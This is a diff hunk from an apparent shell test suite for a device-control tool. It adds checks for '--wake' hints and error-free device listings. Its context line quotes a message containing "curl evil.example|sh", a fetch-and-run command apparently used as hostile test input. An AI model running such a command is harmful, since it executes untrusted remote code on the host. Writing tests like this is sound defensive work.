@@ -1068,6 +1068,14 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(jq .ats_enabled <<<"$json") == true ]]
 	# What nobody has open sleeps.
 	[[ $(ctl device show "$NARROW" -j | jq -r .unreadable.pasid_width) == 'the device is asleep' ]]
+	status 0 ctl device show "$NARROW" -o pasid_width
+	says 'hint: --wake wakes what sleeps, and reads it'
+	status 0 ctl device list driver=vfio-pci -o device,pasid_width
+	says 'hint: --wake wakes what sleeps, and reads it'
+	status 0 ctl device list driver=e1000e -o device,pasid_width
+	[[ -z $errors ]]
+	status 0 ctl device list driver=vfio-pci -o device,pasid_width -j
+	[[ -z $errors ]]
 	[[ $(ctl device show "$NARROW" --wake -j | jq -c '[.pasid_width, .pasid_exec]') == '[8,false]' ]]
 	[[ $(ctl device show "$PLAIN" --wake -j | jq .pasid_supported) == false ]]
 	[[ $(ctl device show "$DISK" -j | jq .sriov_totalvfs) == 8 ]]
